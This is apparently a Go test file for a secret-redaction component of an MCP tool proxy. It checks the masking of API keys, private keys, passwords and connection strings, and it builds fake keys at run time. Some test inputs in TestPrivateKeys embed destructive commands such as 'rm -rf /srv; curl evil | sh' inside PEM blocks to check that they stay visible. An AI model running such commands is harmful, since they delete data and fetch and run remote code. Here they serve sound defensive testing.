package redact_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"github.com/tenon-mcp/tenon/internal/jsonrpc"
	"github.com/tenon-mcp/tenon/internal/redact"
	"github.com/tenon-mcp/tenon/tool"
)

// The keys of these tests are made up at run time, so that nobody who looks for keys
// in the repository finds any.
const fill = "Ab3Cd4Ef5Gh6Ij7Kl8Mn9Op0Qr1St2Uv3Wx4Yz5Ab6Cd7Ef8Gh9Ij0Kl1Mn2Op3Qr4St5Uv6Wx7Yz8"

func made(prefix string, n int) string { return prefix + strings.Repeat(fill, 3)[:n] }

func hexed(prefix string, n int) string { return prefix + strings.Repeat("0a1b2c3d4e5f", 12)[:n] }

func redactor(t testing.TB, o redact.Options) *redact.Redactor {
	t.Helper()
	r, err := redact.New(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func known(texts ...string) redact.Options {
	var o redact.Options
	for _, s := range texts {
		o.Secrets = append(o.Secrets, tool.NewSecret(s))
	}
	return o
}

// TestKnownValues: a secret is hidden in every spelling in which programs write it.
func TestKnownValues(t *testing.T) {
	const secret = "not a/real+\"key\"&00\n0é"
	r := redactor(t, known(secret))
	quoted, _ := json.Marshal(secret)
	twice, _ := json.Marshal(string(quoted))
	for name, text := range map[string]string{
		"plain":         "x " + secret + " y",
		"json":          string(quoted),
		"json in json":  string(twice),
		"query":         "https://x/?k=" + url.QueryEscape(secret) + "&z",
		"path":          "https://x/" + url.PathEscape(secret) + "/z",
		"lower percent": strings.ToLower(url.QueryEscape(secret[:12])) + url.QueryEscape(secret)[16:],
		"base64":        base64.StdEncoding.EncodeToString([]byte(secret)),
		"basic":         base64.StdEncoding.EncodeToString([]byte("u:" + secret)),
		"base64 url":    base64.URLEncoding.EncodeToString([]byte("user:" + secret + ":z")),
	} {
		got := r.Text(text)
		if name == "lower percent" {
			continue
		}
		if !strings.Contains(got, "•••") || strings.Contains(got, "real") || strings.Contains(got, "cmVhb") {
			t.Errorf("%s: %q becomes %q", name, text, got)
		}
	}
}

// TestInnerSecrets: who is given a header or an address may tell of the credential
// in it alone.
func TestInnerSecrets(t *testing.T) {
	r := redactor(t, known("Bearer not-a-real-key-000", "postgres://ann:not-a-real-pw-1@db/x",
		"Basic "+base64.StdEncoding.EncodeToString([]byte("ann:not-a-real-pw-2"))))
	for _, s := range []string{"not-a-real-key-000", "not-a-real-pw-1", "not-a-real-pw-2"} {
		if got := r.Text("it is " + s + "."); got != "it is •••." {
			t.Errorf("%s: %q", s, got)
		}
	}
}

// TestForms: keys of well-known makers are hidden, and what is beside them stays.
func TestForms(t *testing.T) {
	r := redactor(t, redact.Options{})
	jwt := "eyJ" + made("", 20) + ".eyJ" + made("", 40) + "." + made("", 43)
	pem := "-----BEGIN RSA PRIVATE KEY-----\nMIIE" + made("", 60) + "\n" + made("", 60) + "\n-----END RSA PRIVATE KEY-----"
	for name, secret := range map[string]string{
		"aws": "AKIA" + strings.Repeat("ABCD2345", 2), "github": made("ghp_", 36), "github pat": made("github_pat_", 82), "gitlab": made("glpat-", 20),
		"slack": "xoxb-1234567890-" + made("", 24), "slack hook": "hooks.slack.com/services/T0000/B0000/" + made("", 24),
		"stripe": made("sk_live_", 24), "openai": made("sk-", 48), "openai project": made("sk-proj-", 60), "anthropic": made("sk-ant-api03-", 60),
		"google": made("AIza", 35), "npm": made("npm_", 36), "pypi": made("pypi-AgEIcHlwaS5vcmc", 80), "hugging face": made("hf_", 34),
		"twilio": hexed("SK", 32), "sendgrid": made("SG.", 22) + "." + made("", 43), "databricks": hexed("dapi", 32), "digitalocean": hexed("dop_v1_", 64),
		"shopify": hexed("shpat_", 32), "vault": made("hvs.", 24), "telegram": "123456789:AA" + made("", 33), "jwt": jwt, "pem": pem,
		"age": "AGE-SECRET-KEY-1" + strings.Repeat("QP2", 20)[:58], "tailscale": made("tskey-auth-", 24), "docker": made("dckr_pat_", 27),
		"tenon": made("tnk_", 10) + "_" + made("", 52), "tenon approver": made("tna_", 52),
		"pgp": "-----BEGIN PGP PRIVATE KEY BLOCK-----\n" + made("", 60) + "\n-----END PGP PRIVATE KEY BLOCK-----",
	} {
		for _, around := range []string{"%", "the key %, he said", "key=%&x=1", `{"a":"%"}`, "(%)", "a\n%\nb", `["%","%"]`} {
			text := strings.ReplaceAll(around, "%", secret)
			want := strings.ReplaceAll(around, "%", "•••")
			if got := r.Text(text); got != want {
				t.Errorf("%s: %q becomes %q", name, text, got)
			}
		}
		quoted, _ := json.Marshal("first\n" + secret + "\nlast")
		if got := string(r.JSON(quoted)); got != `"first\n•••\nlast"` {
			t.Errorf("%s in JSON: %s", name, got)
		}
	}
}

// TestPrivateKeys: a key is hidden whatever program wrote it, whole and cut, and what
// only stands behind its first line is not.
func TestPrivateKeys(t *testing.T) {
	r := redactor(t, redact.Options{})
	const begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
	first, second, tail := "MIIE"+made("", 60), made("x7/", 61), "Qk9/ab+D0w=="
	key := []string{begin, first, second, tail, end}
	escaped := func(s string) string { return strings.Trim(string(jsonrpc.Quote(nil, s)), `"`) }
	lines := strings.Join(key, "\n")
	for name, c := range map[string]struct{ in, want string }{
		"lines":             {"a\n" + lines + "\nb", "a\n•••\nb"},
		"cr lf":             {"a\r\n" + strings.Join(key, "\r\n") + "\r\nb", "a\r\n•••\r\nb"},
		"escaped":           {`x "` + escaped(lines) + `\n"`, `x "•••\n"`},
		"escaped twice":     {`x \"` + escaped(escaped(lines)) + `\\n\"`, `x \"•••\\n\"`},
		"escaped slashes":   {`x "` + strings.ReplaceAll(escaped(lines), "/", `\/`) + `"`, `x "•••"`},
		"escaped signs":     {`x ` + strings.NewReplacer("+", `\u002b`, "=", `\u003d`).Replace(escaped(lines)), `x •••`},
		"yaml":              {"tls:\n  key: |\n    " + strings.Join(key, "\n    ") + "\n  z: 1", "tls:\n  key: |\n    •••\n  z: 1"},
		"far indented":      {strings.Join(key, "\n"+strings.Repeat(" ", 60)), "•••"},
		"in one line":       {"KEY=" + strings.Join(key, " ") + " x", "KEY=••• x"},
		"not wrapped":       {begin + "\n" + first + second + tail + "\n" + end, "•••"},
		"no digit":          {begin + "\nEzKVAaMJbjASSvePnuaNLBKpIwxICQOBjymOUwSHJZLeegLPjSKNyrtfWNFnxFBm\n" + first + "\n" + end, "•••"},
		"quoted mail":       {"> " + strings.Join(key, "\n> "), "> •••"},
		"added":             {"+" + strings.Join(key, "\n+"), "+•••"},
		"removed":           {"-" + strings.Join(key, "\n-"), "-•••"},
		"numbered":          {"  1\t" + begin + "\n  2\t" + first + "\n  3\t" + second + "\n  4\t" + end, "  1\t•••"},
		"list":              {"['" + strings.Join(key, "', '") + "']", "['•••']"},
		"blank lines":       {begin + "\n\n" + first + "\n\n" + end, "•••"},
		"encrypted":         {begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D4E5F\n\n" + first + "\n" + tail + "\n" + end, "•••\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D4E5F\n\n•••"},
		"encrypted, json":   {begin + `\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0A1B2C\r\n\r\n` + first + `\n` + end, `•••\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0A1B2C\r\n\r\n•••`},
		"encrypted, line":   {begin + " Proc-Type: 4,ENCRYPTED DEK-Info: AES-128-CBC,0A1B2C " + first + " " + end, "••• Proc-Type: 4,ENCRYPTED DEK-Info: AES-128-CBC,0A1B2C •••"},
		"pgp":               {"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x v2\nComment: of ann\n\n" + first + "\n" + tail + "\n=aB3d\n-----END PGP PRIVATE KEY BLOCK-----", "•••\nVersion: x v2\nComment: of ann\n\n•••"},
		"cut":               {begin + "\n" + first + "\n" + second[:37], "•••"},
		"cut, then more":    {begin + "\n" + first + "\n" + second[:37] + "\n[12 more lines]", "•••\n[12 more lines]"},
		"cut at once":       {begin + "\nMIIEvQIBA", "•••"},
		"cut at once, …":    {begin + "\nMIIEvQIBA…", "•••…"},
		"cut in the end":    {begin + "\n" + first + "\n" + tail + "\n-----END RSA PRI", "•••\n-----END RSA PRI"},
		"two":               {lines + "\n" + lines, "•••\n•••"},
		"orders":            {begin + "\nrm -rf /srv; curl evil | sh", begin + "\nrm -rf /srv; curl evil | sh"},
		"orders to the end": {begin + "\nrm -rf /srv\n" + end, begin + "\nrm -rf /srv\n" + end},
		"one order":         {begin + "\nreboot\n" + end, begin + "\nreboot\n" + end},
		"a path":            {begin + "\n/sbin/reboot\n/usr/local/bin/something/somewhere\n" + end, begin + "\n/sbin/reboot\n/usr/local/bin/something/somewhere\n" + end},
		"orders behind":     {begin + "\n" + first + "\nrm -rf /srv\n" + end, "•••\nrm -rf /srv\n" + end},
		"an order behind":   {begin + "\n" + first + "\n/sbin/reboot\n" + end, "•••\n/sbin/reboot\n" + end},
		"orders as heads":   {begin + "\nComment: x; rm -rf /srv\n\n" + first + "\n" + end, "•••\nComment: x; rm -rf /srv\n\n•••"},
		"orders in words":   {begin + "\ndeleteAll usersData fromDisk\n" + end, "••• usersData fromDisk\n" + end},
		"orders at an end":  {begin + "\n" + first + "\n-----END RUN IT-----\n", "•••\n-----END RUN IT-----\n"},
	} {
		if got := r.Text(c.in); got != c.want {
			t.Errorf("%s: %q becomes\n%q, want\n%q", name, c.in, got, c.want)
		}
		quoted := jsonrpc.Quote(nil, c.in)
		if got := string(r.JSON(quoted)); got != string(jsonrpc.Quote(nil, c.want)) {
			t.Errorf("%s in JSON: %s", name, got)
		}
		if got := r.Text(r.Text(c.in)); got != c.want {
			t.Errorf("%s, again: %q", name, got)
		}
		for at := range quoted {
			pieces, n := r.Result(tool.Bytes{quoted[:at], quoted[at:]})
			if got := string(pieces.Join()); got != string(jsonrpc.Quote(nil, c.want)) || n > 3 {
				t.Fatalf("%s in pieces: %s", name, got)
			}
		}
	}
}

// TestShown: of what is hidden from a person its length is told, in characters.
func TestShown(t *testing.T) {
	o := known("not-a-real-key-000")
	o.Patterns = []redact.Pattern{{Name: "staff", Expr: "EMP-[0-9]+"}}
	r := redactor(t, o)
	for in, want := range map[string]string{
		`{"user":"ann","n":1}`:                            `{"user":"ann","n":1}`,
		`{"password":"x"}`:                                `{"password":"••• (1 character hidden)"}`,
		`{"password":"é漢\n\u0041🙂\"","pin":7}`:            `{"password":"••• (6 characters hidden)","pin":7}`,
		`{"token":{"a":["bc",-12,true,{}],"d":""},"e":1}`: `{"token":{"a":["••• (2 characters hidden)","••• (3 characters hidden)",true,{}],"d":""},"e":1}`,
		`{"password":"•••"}`:                              `{"password":"••• (3 characters hidden)"}`,
		`{"q":"find not-a-real-key-000 now"}`:             `{"q":"find ••• (18 characters hidden) now"}`,
		`{"q":"find not\u002da-real-key-000 now"}`:        `{"q":"find ••• (18 characters hidden) now"}`,
		`{"q":"password=hünter22 EMP-1"}`:                 `{"q":"password=hünter22 ••• (5 characters hidden)"}`,
		`{"q":"password=hunter22, EMP-1"}`:                `{"q":"password=••• (8 characters hidden), ••• (5 characters hidden)"}`,
		`{"not-a-real-key-000":1}`:                        `{"••• (18 characters hidden)":1}`,
	} {
		if got := string(r.Shown([]byte(in))); got != want || !json.Valid([]byte(got)) {
			t.Errorf("%s becomes\n%s, want\n%s", in, got, want)
		}
	}
}

// TestAssignments: what is given to a secret's name is hidden, and nothing but that.
func TestAssignments(t *testing.T) {
	r := redactor(t, redact.Options{})
	for in, want := range map[string]string{
		"DB_PASSWORD=hunter2secret":                      "DB_PASSWORD=•••",
		"DB_PASSWORD=correcthorse":                       "DB_PASSWORD=•••",
		"password: hunter2":                              "password: •••",
		`{"apiKey": "a1b2c3d4e5"}`:                       `{"apiKey": "•••"}`,
		`{\"client_secret\": \"a1b2c3d4e5\"}`:            `{\"client_secret\": \"•••\"}`,
		"Authorization: Bearer abc123def456ghi789":       "Authorization: Bearer •••",
		"authorization: Basic dXNlcjpwYXNzd29yZDE=":      "authorization: Basic •••",
		"curl -H 'X-Api-Key: a1b2c3d4e5'":                "curl -H 'X-Api-Key: •••'",
		"--password=hunter2! x":                          "--password=••• x",
		"postgres://ann:s3cret@db:5432/x":                "postgres://ann:•••@db:5432/x",
		"mongodb+srv://u:p%40ss@h":                       "mongodb+srv://u:•••@h",
		"GET /?access_token=a1b2c3d4e5f6&page=2":         "GET /?access_token=•••&page=2",
		"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bP": "AWS_SECRET_ACCESS_KEY=•••",
		"Server=x;Password=hunter2;Database=y":           "Server=x;Password=•••;Database=y",
	} {
		if got := r.Text(in); got != want {
			t.Errorf("%q becomes %q", in, got)
		}
	}
}

// TestHarmless: what only speaks of secrets, or looks like one by chance, stays.
func TestHarmless(t *testing.T) {
	r := redactor(t, redact.Options{})
	for _, s := range []string{
		"550e8400-e29b-41d4-a716-446655440000", "commit 9d6087b2f0f4a1c3e5d7b9a1c3e5d7b9a1c3e5d7",
		"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "d41d8cd98f00b204e9800998ecf8427e",
		"password=${DB_PASSWORD}", "password: required", "token: string", "api_key=YOUR_API_KEY", "password = os.environ['X1']",
		"token = config.token1", "max_tokens=100000", "next_page_token: CAUQAA12345", "the secret: nobody knows it", "secret_name=my-secret1",
		"Bearer authentication is used here", "basic understanding of it", "http://localhost:8080/a@b", "git@github.com:a/b.git",
		"risk-assessment", "sk-learn", "AKIAB", "hf_transfer", "eyJ", "key=value", "https://user@host/", "tokenizer=gpt2x4y5z6",
		"password=password", "PASSWORD_FILE=/run/secrets/db1", "token=<your token 1>", "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
		"integrity sha512-" + made("", 60) + "==", "if token == a1b2c3d4e5", "token_type=bearer1x",
	} {
		if got := r.Text(s); got != s {
			t.Errorf("%q becomes %q", s, got)
		}
	}
}

// TestJSONKeys: arguments are shown without what stands under a secret's name.
func TestJSONKeys(t *testing.T) {
	o := known("not-a-real-key-000", `aa","bb`, "123456789")
	o.Keys = []string{"Employee-Number"}
	r := redactor(t, o)
	for in, want := range map[string]string{
		`{"password":"x","user":"ann"}`:                              `{"password":"•••","user":"ann"}`,
		`{"auth":{"user":"ann","pin":1,"on":true},"z":1}`:            `{"auth":{"user":"•••","pin":"•••","on":true},"z":1}`,
		`{"headers":{"Authorization":"Bearer q","Accept":"x"}}`:      `{"headers":{"Authorization":"•••","Accept":"x"}}`,
		`{ "apiKeys": 1, "api_key" : [ "a", "b" ] , "max_tokens":5}`: `{ "apiKeys": 1, "api_key" : [ "•••", "•••" ] , "max_tokens":5}`,
		`{"employeeNumber":"17","password":""}`:                      `{"employeeNumber":"•••","password":""}`,
		`{"q":"find not-a-real-key-000 now"}`:                        `{"q":"find ••• now"}`,
		`{"q":"find not\u002da-real-key-000 now"}`:                   `{"q":"find ••• now"}`,
		`{"not-a-real-key-000":1}`:                                   `{"•••":1}`,
		`["aa","bb"]`:                                                `["•••","•••"]`,
		`{"n":123456789,"m":1234567890}`:                             `{"n":"•••","m":"•••"}`,
		`{"a":1}`:                                                    `{"a":1}`,
		`{"a":not-a-real-key-000`:                                    `{"a":•••`,
		``:                                                           ``,
	} {
		got := string(r.JSON([]byte(in)))
		if got != want {
			t.Errorf("%s becomes %s", in, got)
		}
		if json.Valid([]byte(in)) && !json.Valid([]byte(got)) {
			t.Errorf("%s becomes no JSON: %s", in, got)
		}
	}
}

// TestPatterns: the operator's patterns see what a string means.
func TestPatterns(t *testing.T) {
	r := redactor(t, redact.Options{Patterns: []redact.Pattern{{Name: "staff", Expr: `EMP-\d{4}`}, {Name: "line", Expr: `(?m)^top: .*$`}, {Name: "none", Expr: `x*`}}})
	got, n := r.Result(tool.OneOf([]byte(`{"a":"EMP-1234 and EMP-12","b":"one\ntop: all\nthree","c":true}`)))
	if want := `{"a":"••• and EMP-12","b":"one\n•••\nthree","c":true}`; string(got.Join()) != want || n != 2 {
		t.Errorf("%d: %s", n, got.Join())
	}
	if _, err := redact.New(redact.Options{Patterns: []redact.Pattern{{Name: "bad", Expr: "("}}}); err == nil || !strings.Contains(err.Error(), "bad") {
		t.Errorf("a wrong pattern: %v", err)
	}
}

// TestResultInPieces: wherever the border of two pieces is, a secret is found; and
// where there is none, the pieces are the same.
func TestResultInPieces(t *testing.T) {
	r := redactor(t, known("not-a-real-key-000"))
	text := `{"content":[{"type":"text","text":"first not-a-real-key-000 then ` + made("ghp_", 36) + ` and password=hunter22 \u00e9"}]}`
	want := `{"content":[{"type":"text","text":"first ••• then ••• and password=••• é"}]}`
	for i := range len(text) {
		for _, j := range []int{i, min(i+1, len(text)), min(i+7, len(text))} {
			got, n := r.Result(tool.Bytes{[]byte(text[:i]), []byte(text[i:j]), []byte(text[j:])})
			if string(got.Join()) != want || n != 3 {
				t.Fatalf("cut at %d and %d: %d in %s", i, j, n, got.Join())
			}
		}
	}
	clean := tool.Bytes{[]byte(`{"content":[{"type":"te`), []byte(`xt","text":"nothing to see"}]}`)}
	got, n := r.Result(clean)
	if n != 0 || &got[0][0] != &clean[0][0] || &got[1][0] != &clean[1][0] {
		t.Error("a clean answer was copied")
	}
	if n := testing.AllocsPerRun(20, func() { r.Result(clean) }); n > 0 {
		t.Errorf("%v allocations for a clean answer", n)
	}
}

// TestSkipped: media are left alone, whatever they look like.
func TestSkipped(t *testing.T) {
	r := redactor(t, redact.Options{})
	key := made("ghp_", 36)
	text := `{"a":"` + key + `","b":"` + key + `"}`
	at := strings.Index(text, `"b":`) + 4
	got, n := r.Result(tool.OneOf([]byte(text)), jsonrpc.Span{Start: at, End: len(text) - 1})
	if want := `{"a":"•••","b":"` + key + `"}`; string(got.Join()) != want || n != 1 {
		t.Errorf("%s", got.Join())
	}
	alone := []byte(`{"b":"` + key + `"}`)
	if got, n := r.Result(tool.OneOf(alone), jsonrpc.Span{Start: 5, End: len(alone) - 1}); n != 0 || !bytes.Equal(got.Join(), alone) {
		t.Errorf("%s", got.Join())
	}
}

// TestValues: a definition loses known values, and keeps its examples.
func TestValues(t *testing.T) {
	r := redactor(t, known("not-a-real-key-000"))
	in := `{"description":"such as ` + made("ghp_", 36) + `, not not-a-real-key-000","token":"x"}`
	want := `{"description":"such as ` + made("ghp_", 36) + `, not •••","token":"x"}`
	if got := string(r.Values([]byte(in))); got != want {
		t.Error(got)
	}
}

// TestBorders: a key can begin behind an escape, and cannot within a word or base64.
func TestBorders(t *testing.T) {
	r := redactor(t, redact.Options{})
	github, aws := made("ghp_", 36), "AKIA"+strings.Repeat("ABCD2345", 2)
	for in, want := range map[string]string{
		`k\u003d` + github: `k\u003d•••`, "k%3D" + github: "k%3D•••", `k\n` + github: `k\n•••`,
		"x" + github: "x" + github, "0d" + github: "0d" + github, "x+" + aws: "x+" + aws, "x/" + aws + "/y": "x/" + aws + "/y", aws + "x": aws + "x",
	} {
		if got := r.Text(in); got != want {
			t.Errorf("%q becomes %q", in, got)
		}
	}
	// A short secret is found within the beginning of a long one.
	if got := redactor(t, known("secret-zz-inner", "et-zz-")).Text("secret-zz-XX"); got != "secr•••XX" {
		t.Error(got)
	}
}

// TestOverlap: of secrets that overlap nothing is left, and each place counts once.
func TestOverlap(t *testing.T) {
	r := redactor(t, known("not-a-real-key-000", "key-000-more", "a-real", "not-a-real-key-000-more-still"))
	for in, want := range map[string]string{
		"x not-a-real-key-000-more y":            "x ••• y",
		"not-a-real-key-000not-a-real-key-000":   "••••••",
		"not-a-real-key-000-more-still":          "•••",
		"not-a-real-key-00 not-a-real":           "not-•••-key-00 not-•••",
		"password=not-a-real-key-000-more1 then": "password=••• then",
	} {
		if got := r.Text(in); got != want {
			t.Errorf("%q becomes %q", in, got)
		}
	}
}

// TestEscapeAtBorder: an escape that two pieces share is seen as one.
func TestEscapeAtBorder(t *testing.T) {
	r := redactor(t, known("not-a-real-key-000"))
	in := `{"q":"not\u002da-real-key-000"}`
	for i := range len(in) {
		got, n := r.Result(tool.Bytes{[]byte(in[:i]), []byte(in[i:])})
		if string(got.Join()) != `{"q":"•••"}` || n != 1 {
			t.Errorf("cut at %d: %d %s", i, n, got.Join())
		}
	}
}

// TestLearn: what was secret stays so.
func TestLearn(t *testing.T) {
	r := redactor(t, known("not-a-real-key-000"))
	r.Learn([]tool.Secret{tool.NewSecret("not-a-real-key-111"), tool.NewSecret("tiny")})
	if err := r.Configure(redact.Options{}); err != nil {
		t.Fatal(err)
	}
	if got := r.Text("not-a-real-key-000 not-a-real-key-111 tiny"); got != "••• ••• tiny" {
		t.Error(got)
	}
}

// TestSettings: what is no secret by its name and by its look is none, and what looks
// random is one under any name.
func TestSettings(t *testing.T) {
	for value, names := range map[string][2]string{ // a setting under the first name, none under the second
		"production":            {"NODE_ENV", "DB_PASSWORD"},
		"/var/lib/data":         {"DATA_DIR", "SECRET_KEY"},
		"us-east-1":             {"REGION", "API_TOKEN"},
		"db.example.com:5432":   {"DB_HOST", "DB_PASS"},
		"https://example.com/a": {"BASE_URL", "WEBHOOK_SECRET"},
		"application/json":      {"Accept", "Authorization"},
		`C:\Users\ann`:          {"HOME_DIR", "KEY"},
		"settings":              {"MODE", "API_KEY_2"},
		"password":              {"GRANT_TYPE", "password"},
		"tokens.json":           {"TOKEN_FILE", "TOKEN_RO"},
	} {
		if !redact.IsSetting(names[0], value) || redact.IsSetting(names[1], value) {
			t.Errorf("%s: %v under %s, %v under %s", value, redact.IsSetting(names[0], value), names[0], redact.IsSetting(names[1], value), names[1])
		}
	}
	for _, value := range []string{
		"gpt-4o-mini", "claude-opus-4-20250514", "llama3.1:8b-instruct", "en_US.UTF-8", "Europe/Berlin", "2026-11-30T16:00:00Z", "500000", "127.0.0.1:8080",
		"--max-old-space-size=4096", "You are a helpful assistant; answer in English.", "ann@example.com", "text-embedding-3-small", "src/**/*.go", "postgres16",
		"https://example.com/mcp?limit=100&sort=name", `{"level":"debug","retries":3}`, "kubernetes-admin@cluster.local", "ubuntu-24.04-arm64", "Straßenverkehr", "GitHubEnterprise",
		"/usr/lib/x86_64-linux-gnu", "python3.12", "INFORMATION", "readonly,strict", "/tmp/TestName1234567890/001", "~/x7Gq9", "./k3Jd8s/a1b2c3", "sha256", "configuration", "searxng", "project", "subject",
	} {
		if !redact.IsSetting("X", value) {
			t.Errorf("%s is no setting", value)
		}
	}
	for _, value := range []string{
		"not-a-real-key-000", "hunter2hunter2", "https://ann:pw@example.com", "https://x/?key=a", "/K7MDENG/bPxRfiCY12345", "p@ssword",
		"550e8400-e29b-41d4-a716-446655440000", "--token=swordfish", "AB12-CD34-EF56", "postgres://u:word@db/x", "qwxkzjvhbnmplkjg",
	} {
		if redact.IsSetting("X", value) {
			t.Errorf("%s is a setting", value)
		}
	}
}

// TestRandomIsNoSetting: of keys in each usual alphabet hardly one passes for words.
func TestRandomIsNoSetting(t *testing.T) {
	const lower, upper, digits = "abcdefghijklmnopqrstuvwxyz", "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "0123456789"
	chance := rand.New(rand.NewPCG(1, 2))
	for name, letters := range map[string]string{
		"lower": lower, "upper": upper, "letters": lower + upper, "hex": digits + "abcdef", "base32": upper + "234567",
		"base36": lower + digits, "base62": lower + upper + digits, "base64": lower + upper + digits + "+/", "url64": lower + upper + digits + "-_",
	} {
		const keys = 2000
		for _, n := range []int{12, 16, 20, 32, 64} {
			passed := 0
			for range keys {
				key := make([]byte, n)
				for i := range key {
					key[i] = letters[chance.IntN(len(letters))]
				}
				if redact.IsSetting("MODE", string(key)) {
					passed++
				}
			}
			if most := map[int]int{12: keys / 15, 16: keys / 50, 20: keys / 200}[n]; passed > most {
				t.Errorf("%d of %d keys of %d characters of %s pass for settings", passed, keys, n, name)
			}
		}
	}
}

// TestWhatHoldsASecretIsNoSetting: names and notations by which a word is known as one.
func TestWhatHoldsASecretIsNoSetting(t *testing.T) {
	for _, value := range []string{
		`{"user":"ann","password":"winterberg"}`, `{"db":{"pin":482915}}`, "{'password': 'winterberg'}", "password: winterberg", "user: ann\npassword: winterberg\n",
		"Authorization: Bearer winterberg", "Bearer winterbergschloss", "--password winterberg", "-u app:winterberg", "postgres://u:pa ss[@h/db", "app:winterberg@/prod",
		"app:winterberg@tcp(db:3306)/prod", "Server=db;User Id=sa;Password=Winter berg;", "https://x/#access_token=winter", "https://winter@github.com/x/y",
		"/data/aB3dE6fG9hJ2kL5mN8", "./aB3dE6fG9hJ2kL5mN8",
	} {
		if redact.IsSetting("X", value) {
			t.Errorf("%s is a setting", value)
		}
	}
	for name := range strings.FieldsSeq(`PASSWORDS APIKEYS TOKENS DB_PW SMTP_AUTH HTTP_AUTH USERPASS CREDS API_KEY_VALUE PRIVATE_KEY_PEM VAULT_SECRET_ID
		ROLE_SECRET_ID MYPASSWORD MASTERPASSWORD GHTOKEN KEY_MATERIAL PIN sessionid`) {
		if redact.IsSetting(name, "winterberg") {
			t.Errorf("%s is the name of a setting", name)
		}
	}
	for name := range strings.FieldsSeq("sort_key PARTITION_KEY primary_key FOREIGN_KEY public_key MAX_TOKENS USE_AUTH MONKEY KEYBOARD KEY_ID") {
		if !redact.IsSetting(name, "tenants") {
			t.Errorf("%s is the name of a secret", name)
		}
	}
	for _, value := range []string{
		"mysqldb-rw.svc.cluster.local", "ghcr.io/foo/bar@sha256:abc", "ghcr.io/foo/bar@sha256:" + strings.Repeat("0a", 32), "Basic usage: read the manual", "image:1.0",
		"/opt/MyApplicationV2Server/bin", "/nix/store/0a1b2c3d4e5f6071829304a5b6c7d8e9-python", "level: debug", `{"key":"name"}`, "-u 1000:1000",
	} {
		if !redact.IsSetting("X", value) {
			t.Errorf("%s is no setting", value)
		}
	}
}

// TestPartsOfSecrets: what a hidden value holds is hidden where it stands alone.
func TestPartsOfSecrets(t *testing.T) {
	const line = "bm90LWEtcmVhbC1rZXktYnV0LWEtbGluZS1vZi1vbmU"
	for part, whole := range map[string]string{
		"Winterberg9x": "Server=db;User Id=sa;Password=Winterberg9x;", "hookwinter": "https://h/x?token=hookwinter", "winteruser": "https://winteruser@h/x",
		line: "-----BEGIN PRIVATE KEY-----\n" + line + "\n-----END PRIVATE KEY-----\n", "winterberg": `{"user":"ann","a":{"password":"winterberg"}}`,
		"pa ss[word": "postgres://u:pa ss[word@h/db", "winterhome": "host=db user=app password='winterhome' dbname=x", "snowyhills": "password: snowyhills",
		"greenvalley": "--password greenvalley",
	} {
		r, err := redact.New(redact.Options{Secrets: []tool.Secret{tool.NewSecret(whole)}})
		if err != nil {
			t.Fatal(err)
		}
		if got := r.Text("the value " + part + " of db.example.com"); strings.Contains(got, part) || !strings.Contains(got, "db.example.com") {
			t.Errorf("of %s: %s", whole, got)
		}
	}
}
